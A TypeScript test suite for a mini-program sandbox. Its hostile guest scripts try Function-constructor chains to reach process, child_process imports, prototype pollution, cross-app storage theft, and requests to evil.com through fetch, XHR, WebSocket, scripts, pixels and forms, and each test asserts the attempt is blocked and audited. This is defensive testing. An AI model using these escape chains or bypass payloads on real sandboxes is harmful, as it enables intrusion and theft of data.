import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { doneOf, testHost, type TestHost } from './helpers/host-apps.js';

/**
 * Hostile mini-programs, each run in its own sandbox by a real host. Every attempt must fail inside the
 * guest, the attempt must show up in the report or the audit log, and the host must be unharmed.
 */
const attempt = `
  window.results = {};
  window.attempt = async function (name, fn) {
    try { const v = await fn(); results[name] = 'ESCAPED:' + String(v).slice(0, 80); }
    catch (e) { results[name] = (e && (e.code || e.name)) || String(e); }
  };
  window.done = function () { console.log('DONE ' + JSON.stringify(results)); };
`;

let h: TestHost;
beforeAll(async () => {
  h = await testHost();
});
afterAll(async () => {
  await h.manager.close();
});

const launchWith = async (id: string, body: string, manifest = {}) => {
  await h.install(id, `${attempt}\n(async () => {\n${body}\ndone();\n})();`, manifest);
  return h.manager.launch(id);
};

describe('escape attempts from a sandboxed mini-program', () => {
  it('constructor chains from globals, bridge functions, and the errors and promises the bridge returns', async () => {
    const app = await launchWith(
      'com.partner.chains',
      `
      const chains = {
        globalThis: () => globalThis.constructor.constructor('return process')(),
        window: () => window.constructor.constructor('return process')(),
        windowProto: () => Object.getPrototypeOf(window).constructor.constructor('return process')(),
        document: () => document.constructor.constructor('return process')(),
        bridgeCall: () => MiniAppBridge.call.constructor.constructor('return process')(),
        bridgeCanIUse: () => MiniAppBridge.canIUse.constructor.constructor('return process')(),
        setTimeoutFn: () => setTimeout.constructor.constructor('return process')(),
        fetchFn: () => fetch.constructor.constructor('return process')(),
        consoleLog: () => console.log.constructor.constructor('return process')(),
        eventTarget: () => document.body.addEventListener.constructor('return process')(),
      };
      for (const [name, fn] of Object.entries(chains)) await attempt(name, fn);
      const rejected = await MiniAppBridge.call('no.such.method').catch((e) => e);
      await attempt('bridgeError', () => rejected.constructor.constructor('return process')());
      await attempt('bridgeErrorProto', () => Object.getPrototypeOf(rejected).constructor.constructor('return process')());
      const promise = MiniAppBridge.call('device.info', {});
      await attempt('bridgePromise', () => promise.constructor.constructor('return process')());
      const value = await promise;
      await attempt('bridgeResult', () => value.constructor.constructor('return process')());
    `,
    );
    const r = await doneOf(app);
    expect(Object.keys(r)).toHaveLength(14);
    for (const [name, outcome] of Object.entries(r)) {
      // Guest-realm chains find no process (ReferenceError); host-realm chains cannot compile (EvalError).
      expect([name, outcome]).toEqual([name, expect.stringMatching(/^(ReferenceError|EvalError)$/)]);
    }
    // Chains into the sandbox's own realm are reported even though the app caught the error.
    const escapes = h.audit.events.filter((e) => e.type === 'escape.caught' && e.app === 'com.partner.chains');
    expect(escapes.length).toBe(Object.values(r).filter((v) => v === 'EvalError').length);
    expect(escapes.length).toBeGreaterThan(3);
    expect(escapes[0]).toMatchObject({ kind: 'constructor-chain', message: 'Function constructor reached from guest code' });
  });

  it('require, process, module, Buffer and dynamic import() are not there', async () => {
    const app = await launchWith(
      'com.partner.nodeapis',
      `
      await attempt('require', () => require('fs'));
      await attempt('process', () => process.env);
      await attempt('module', () => module.exports);
      await attempt('bufferChain', () => Buffer.constructor.constructor('return process')());
      await attempt('globalProcess', () => globalThis.process.mainModule);
      await attempt('dynamicImport', () => Promise.race([import('node:child_process').then((m) => m.execSync), new Promise((_, rej) => setTimeout(() => rej(Object.assign(new Error(), { code: 'NOT_RESOLVED' })), 500))]));
      setTimeout(() => { process.exit(1); }, 0);
    `,
    );
    const r = await doneOf(app);
    expect(r).toMatchObject({
      require: 'ReferenceError',
      process: 'ReferenceError',
      module: 'ReferenceError',
      bufferChain: expect.stringMatching(/^(ReferenceError|EvalError)$/),
      globalProcess: 'TypeError',
    });
    expect(r.dynamicImport).not.toMatch(/ESCAPED/);
    // The uncaught attempt (process.exit in a timer) is reported and audited as an escape caught.
    await new Promise((r) => setTimeout(r, 200));
    expect(app.host.snapshot().errors.some((e) => /process is not defined/.test(e.message))).toBe(true);
    expect(h.audit.events.some((e) => e.type === 'escape.caught' && e.app === 'com.partner.nodeapis')).toBe(true);
    expect(h.audit.events.some((e) => e.type === 'network.blocked' && e.app === 'com.partner.nodeapis' && e.url === 'node:child_process')).toBe(true);
  });

  it('prototype pollution carried across the bridge reaches neither the host nor another app', async () => {
    const app = await launchWith(
      'com.partner.pollute',
      `
      Object.prototype.polluted = 'guest';
      Array.prototype.polluted = 'guest';
      await attempt('protoKey', () => MiniAppBridge.call('storage.set', JSON.parse('{"key":"k","value":"v","__proto__":{"polluted":"via-proto"}}')));
      await attempt('constructorKey', () => MiniAppBridge.call('storage.set', { key: 'k2', value: 'v', constructor: { prototype: { polluted: 'via-constructor' } } }));
      await attempt('protoAsKey', () => MiniAppBridge.call('storage.set', { key: '__proto__', value: '{"polluted":1}' }));
      await attempt('readBack', async () => { const r = await MiniAppBridge.call('storage.get', { key: '__proto__' }); return 'value ' + JSON.stringify(r); });
    `,
    );
    const r = await doneOf(app);
    expect(r.readBack).toMatch(/ESCAPED:value/); // an ordinary key, stored as data: not an escape, just a key
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(([] as unknown as Record<string, unknown>).polluted).toBeUndefined();
    const other = await launchWith('com.partner.clean', `await attempt('seen', () => { if ({}.polluted !== undefined) return {}.polluted; throw Object.assign(new Error(), { code: 'CLEAN' }); });`);
    expect(await doneOf(other)).toEqual({ seen: 'CLEAN' });
  });

  it("another app's storage and token are out of reach", async () => {
    const owner = await launchWith(
      'com.partner.owner',
      `
      await MiniAppBridge.call('storage.set', { key: 'secret', value: 's3cret' });
      const t = await MiniAppBridge.call('auth.getToken', { scope: 'profile' });
      console.log('TOKEN ' + t.token);
    `,
    );
    await doneOf(owner);
    const token = owner.host
      .snapshot()
      .console.find((c) => c.text.startsWith('TOKEN '))!
      .text.slice(6);
    const thief = await launchWith(
      'com.partner.thief',
      `
      for (const key of ['secret', 'com.partner.owner:secret', '../com.partner.owner/secret', 'com.partner.owner/secret']) {
        await attempt(key, async () => { const r = await MiniAppBridge.call('storage.get', { key }); if (r.value === 's3cret' || r === 's3cret') return 'stolen'; throw Object.assign(new Error(), { code: 'NOT_FOUND' }); });
      }
      await attempt('keys', async () => { const r = await MiniAppBridge.call('storage.keys', {}); if (JSON.stringify(r).includes('secret')) return 'listed'; throw Object.assign(new Error(), { code: 'NONE' }); });
    `,
    );
    const r = await doneOf(thief);
    expect(Object.values(r).every((v) => !String(v).startsWith('ESCAPED'))).toBe(true);
    // A backend given the owner's token on behalf of the thief refuses it, and the check is audited.
    expect(h.manager.checkToken(token, 'com.partner.thief', 'profile')).toEqual({ valid: false, reason: 'wrong-app' });
    expect(h.manager.checkToken(token, 'com.partner.owner', 'profile').valid).toBe(true);
    expect(h.audit.events.filter((e) => e.type === 'token.checked').map((e) => e.valid)).toEqual([false, true]);
    expect(h.audit.events.some((e) => e.type === 'token.issued' && e.app === 'com.partner.owner')).toBe(true);
    expect(h.audit.events.some((e) => e.type === 'storage.access' && e.app === 'com.partner.thief')).toBe(true);
  });

  it("a page cannot plant anything on the sandbox realm's prototypes (the root of the forged-message and Buffer-deprecation chains)", async () => {
    // A DOM object's prototype chain ends at the sandbox realm's Object.prototype. A toJSON planted there
    // rewrote the sandbox's messages; a getter such as noDeprecation, called by Node with this ===
    // process through window.Buffer(1)'s deprecation warning, handed the page the sandbox's process.
    // That realm's prototypes are frozen before the page runs, and Buffer is not on the window.
    const app = await launchWith(
      'com.partner.planter',
      `
      let p = document, top; while (p) { top = p; p = Object.getPrototypeOf(p); }
      await attempt('sameRealm', () => { if (top === Object.prototype) throw Object.assign(new Error(), { code: 'SAME_REALM' }); return 'other realm'; });
      await attempt('toJSON', () => { top.toJSON = function () { return null; }; if (top.toJSON) return 'planted'; throw Object.assign(new Error(), { code: 'NOT_PLANTED' }); });
      await attempt('getter', () => { Object.defineProperty(top, 'noDeprecation', { get() { return this; } }); return 'planted'; });
      await attempt('functionProto', () => { const fp = Object.getPrototypeOf(document.createElement); if (fp === Function.prototype) throw Object.assign(new Error(), { code: 'SAME_REALM' }); Object.defineProperty(fp, 'x', { value: 1 }); return 'planted'; });
      await attempt('buffer', () => window.Buffer(1));
      await attempt('global', () => window.global.process);
      await attempt('GLOBAL', () => window.GLOBAL.process);
    `,
    );
    const r = await doneOf(app);
    expect(r).toEqual({ sameRealm: 'ESCAPED:other realm', toJSON: 'NOT_PLANTED', getter: 'TypeError', functionProto: 'TypeError', buffer: 'TypeError', global: 'TypeError', GLOBAL: 'TypeError' });
    // The app itself keeps running, and so do the host and other apps.
    expect(await Promise.race([app.exited.then(() => 'stopped'), new Promise((res) => setTimeout(() => res('running'), 300))])).toBe('running');
    const other = await launchWith('com.partner.planter.bystander', "await attempt('alive', async () => { throw Object.assign(new Error(), { code: 'ALIVE' }); });");
    expect(await doneOf(other)).toEqual({ alive: 'ALIVE' });
  });

  it('every network bypass is refused by the host and audited as blocked', async () => {
    const app = await launchWith(
      'com.partner.netbypass',
      `
      const urls = {
        otherHost: 'https://evil.com/x',
        plainHttp: 'http://api.partner.com/x',
        userinfo: 'https://api.partner.com@evil.com/x',
        suffix: 'https://api.partner.com.evil.com/x',
        ipLiteral: 'https://127.0.0.1/x',
        trailingDot: 'https://api.partner.com./x',
        otherPort: 'https://api.partner.com:8443/x',
        lookalike: 'https://api.pаrtner.com/x',
      };
      for (const [name, url] of Object.entries(urls)) await attempt('fetch_' + name, () => fetch(url).then((r) => r.status));
      const fail = (code) => Object.assign(new Error(), { code });
      await attempt('xhr', () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.open('GET', 'https://evil.com/x'); x.onload = () => (x.status < 300 ? resolve(x.status) : reject(fail('BLOCKED_' + x.status))); x.onerror = () => reject(fail('XHR_ERROR')); x.send(); }));
      await attempt('websocket', () => new Promise((resolve, reject) => { const ws = new WebSocket('wss://evil.com/x'); ws.onopen = () => resolve('open'); ws.onerror = () => reject(Object.assign(new Error(), { code: 'WS_ERROR' })); }));
      // sendBeacon only queues (it answers true); the request itself must be refused by the host.
      navigator.sendBeacon('https://evil.com/beacon', 'x');
      // Synchronous loads never reach the host (there is no synchronous channel): refused in the guest, still audited.
      await attempt('syncXhr', () => { const x = new XMLHttpRequest(); x.open('GET', 'https://evil.com/sync', false); x.send(); if (x.status !== 200) throw fail('BLOCKED_' + x.status); return x.status; });
      await attempt('classicScript', () => new Promise((resolve, reject) => { const s = document.createElement('script'); s.src = 'https://evil.com/classic.js'; s.onload = () => resolve('loaded'); s.onerror = () => reject(fail('SCRIPT_ERROR')); document.head.appendChild(s); }));
      await attempt('moduleScript', () => new Promise((resolve, reject) => { const s = document.createElement('script'); s.type = 'module'; s.src = 'https://evil.com/module.js'; s.onload = () => resolve('loaded'); s.onerror = () => reject(fail('SCRIPT_ERROR')); document.head.appendChild(s); }));
      await attempt('stylesheet', () => new Promise((resolve, reject) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://evil.com/style.css'; l.onload = () => resolve('loaded'); l.onerror = () => reject(fail('CSS_ERROR')); document.head.appendChild(l); }));
      // A tracking pixel that is never attached to the page is still a request in a WebView.
      await attempt('image', () => new Promise((resolve, reject) => { const i = new Image(); i.onload = () => resolve('loaded'); i.onerror = () => reject(fail('IMG_ERROR')); i.src = 'https://evil.com/pixel.gif?d=1'; }));
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.com/frame.html';
      document.body.appendChild(frame);
      await new Promise((r) => setTimeout(r, 50));
      // Last: a form navigates the page away.
      setTimeout(() => { const f = document.createElement('form'); f.action = 'https://evil.com/form'; f.method = 'post'; document.body.appendChild(f); f.submit(); }, 0);
    `,
    );
    const r = await doneOf(app);
    for (const [name, outcome] of Object.entries(r)) expect([name, outcome]).toEqual([name, expect.not.stringMatching(/^ESCAPED/)]);
    // The form's navigation is submitted after the page reported: wait (up to 10 s) for its audit line.
    const blockedEvents = () => h.audit.events.filter((e) => e.type === 'network.blocked' && e.app === 'com.partner.netbypass');
    for (let i = 0; i < 200 && !blockedEvents().some((e) => e.url === 'https://evil.com/form'); i++) await new Promise((r) => setTimeout(r, 50));
    // A URL with userinfo never leaves the guest: its own fetch refuses to build the request.
    const events = blockedEvents();
    const blocked = events.map((e) => e.url);
    expect(blocked).toEqual(
      expect.arrayContaining([
        'https://evil.com/x',
        'http://api.partner.com/x',
        'https://api.partner.com.evil.com/x',
        'https://127.0.0.1/x',
        'https://api.partner.com./x',
        'https://api.partner.com:8443/x',
        'https://api.xn--prtner-3nf.com/x',
        'wss://evil.com/x',
        'https://evil.com/beacon',
      ]),
    );
    expect(blocked).toEqual(
      expect.arrayContaining([
        'https://evil.com/sync',
        'https://evil.com/classic.js',
        'https://evil.com/module.js',
        'https://evil.com/style.css',
        'https://evil.com/pixel.gif?d=1',
        'https://evil.com/frame.html',
        'https://evil.com/form',
      ]),
    );
    for (const e of events) expect(e).toMatchObject({ code: 'DOMAIN_NOT_ALLOWED', reason: expect.any(String), method: expect.any(String) });
    expect(events.find((e) => e.url === 'https://evil.com/sync')).toMatchObject({ api: 'xhr', method: 'GET' });
    expect(events.find((e) => e.url === 'https://evil.com/classic.js')).toMatchObject({ api: 'script' });
    expect(events.find((e) => e.url === 'https://evil.com/form')).toMatchObject({ method: 'POST' });
    // Each refusal once (fetch and XHR both tried https://evil.com/x), and no misleading "missing resource" for what the policy refused.
    expect(blocked.filter((u) => u === 'https://evil.com/x')).toHaveLength(2);
    expect(blocked.filter((u) => u !== 'https://evil.com/x')).toEqual([...new Set(blocked.filter((u) => u !== 'https://evil.com/x'))]);
    expect(app.host.snapshot().errors.filter((e) => e.kind === 'resource')).toEqual([]);
    expect(h.audit.events.some((e) => e.type === 'network.allowed' && e.app === 'com.partner.netbypass')).toBe(false);
  });
});
